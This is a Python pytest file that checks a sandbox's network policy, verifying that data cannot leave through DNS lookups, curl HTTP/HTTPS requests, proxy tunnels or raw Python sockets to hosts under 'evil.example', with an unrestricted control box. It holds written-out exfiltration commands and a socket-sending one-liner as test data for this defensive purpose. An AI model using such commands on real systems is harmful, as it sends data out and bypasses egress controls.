# SPDX-License-Identifier: MIT
"""dns: refused: synthetic gives an address to names that no rule allows. It must carry out nothing: not in the lookup, not in the
connection, not in what is sent on it. The control is a sandbox in FULL, from which the same arrives."""
import contextlib
import secrets

import pytest

from lib.tunnels import ROGUE, Tunnels

ZONE = "evil.example"


@pytest.fixture(scope="module")
def tunnels():
    with contextlib.ExitStack() as stack:
        yield Tunnels(stack, more="dns: {refused: synthetic}\n")


def carry(tunnels, mode, way):
    data, since = secrets.token_hex(300), tunnels.mark()
    tunnels.world.settle()
    with tunnels.world.watch() as watch:
        status, said = tunnels.box(mode).payload("lookups", "carry", 40, way=way, server=ROGUE, data=data, zone=ZONE)
    assert status == 0 and "exception" not in (said or {}), said
    return data, tunnels.carried(since, ZONE), said, watch


@pytest.mark.parametrize("way", ["udp", "udp_connected", "tcp"])
def test_labels(tunnels, way):
    data, arrived, said, watch = carry(tunnels, "FULL", way)
    assert arrived == data and watch.something(), f"the control failed: {said}"
    since = tunnels.mark()
    _, arrived, said, watch = carry(tunnels, "PROXIED", way)
    assert said["answers"] > 0, "they do have addresses"
    assert not arrived and watch.nothing() and tunnels.received(since) == []


SEND = "import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5); s.sendall(sys.argv[3].encode()); s.recv(9)"
# As a program does it that means well, and as one that does not.
TRIES = {
    "http": ["curl", "-sS", "-m", "15", "http://{host}/{data}", "-d", "{data}", "-H", "X: {data}"],
    "https": ["curl", "-sS", "-k", "-m", "15", "https://{host}/{data}", "-d", "{data}"],
    "https1": ["curl", "-sS", "-k", "--http1.1", "-m", "15", "https://{host}/{data}"],
    "tunnel": ["curl", "-sS", "-p", "-x", "http://{host}:80", "-m", "15", "http://{data}.evil.example:8080/"],
    "raw": ["python3", "-c", SEND, "{host}", "9000", "{data}"],
    "raw80": ["python3", "-c", SEND, "{host}", "80", "{data}"],
}


@pytest.mark.parametrize("way", TRIES)
def test_connections(tunnels, way):
    data, host = secrets.token_hex(16), f"{secrets.token_hex(8)}.{ZONE}"
    argv = [word.format(data=data, host=host) for word in TRIES[way]]
    since = tunnels.mark()
    tunnels.world.settle()
    with tunnels.world.watch() as watch:
        tunnels.box("PROXIED").call("execute", argv=argv, timeout=30)
    assert watch.nothing() and tunnels.received(since) == []
    refused = [e for e in tunnels.box("PROXIED").refusals() if host in (e.get("lookup") or "") or host in (e.get("url") or "")]
    assert refused and {e["reason"] for e in refused} <= {"not_in_policy", "bad_http", "host_mismatch"}, refused
    assert any(e.get("lookup") == host for e in refused), refused


def test_control_the_same_reaches_from_full(tunnels):
    host, since = f"{secrets.token_hex(8)}.{ZONE}", tunnels.mark()
    got = tunnels.box("FULL").call("execute", argv=["curl", "-sS", "-m", "15", "--connect-to", f"::{ROGUE}:", f"http://{host}/x"], timeout=30)
    assert got["out"] == "reached", got
    assert [r["host"] for r in tunnels.received(since) if r["by"] == "http"] == [host]
